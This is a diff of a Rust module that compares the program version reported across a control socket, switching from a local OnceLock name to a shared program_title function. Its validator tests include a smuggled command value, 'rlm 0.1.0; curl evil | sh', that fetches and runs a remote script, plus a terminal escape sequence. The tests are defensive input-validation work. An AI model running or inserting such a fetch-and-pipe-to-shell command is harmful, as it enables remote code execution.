@@ -1,23 +1,9 @@
 //! The programs at the two ends of the control socket, and the message if they have different versions.
 
-use std::sync::OnceLock;
+use rlm_store::program_title;
 
 /// The longest name of a program in a line, in bytes.
 const MAX_NAME: usize = 80;
-
-static OWN: OnceLock<String> = OnceLock::new();
-
-/// Sets the name and version of this program, such as `rlm 0.1.0`. Each line that it sends through a control socket has them, so that a program of
-/// another version can name both. Only the first call has an effect; without a call, the name is that of this crate.
-pub fn set_program(name: impl Into<String>) {
-    // The name of a process doesn't change.
-    let _first = OWN.set(name.into());
-}
-
-/// Returns the name and version of this program.
-pub(crate) fn own() -> &'static str {
-    OWN.get_or_init(|| concat!("loop-runner ", env!("CARGO_PKG_VERSION")).to_owned())
-}
 
 /// A run whose process has another version than this program.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -33,7 +19,7 @@ impl OtherVersion {
     pub(super) fn of(name: &str) -> Option<Self> {
         let is_usual = |it: u8| it.is_ascii_alphanumeric() || b" .+-()".contains(&it);
         let is_name = !name.is_empty() && name.len() <= MAX_NAME && name.bytes().all(is_usual);
-        (is_name && name != own()).then(|| Self {
+        (is_name && name != program_title()).then(|| Self {
             program: Some(name.to_owned()),
         })
     }
@@ -88,7 +74,7 @@ mod tests {
     fn own_name_and_unusual_names_are_no_other_version() {
         let long = "x".repeat(MAX_NAME + 1);
         for name in [
-            own(),
+            program_title(),
             "",
             "rlm 0.1.0; curl evil | sh",
             "rlm\u{1b}[2J",
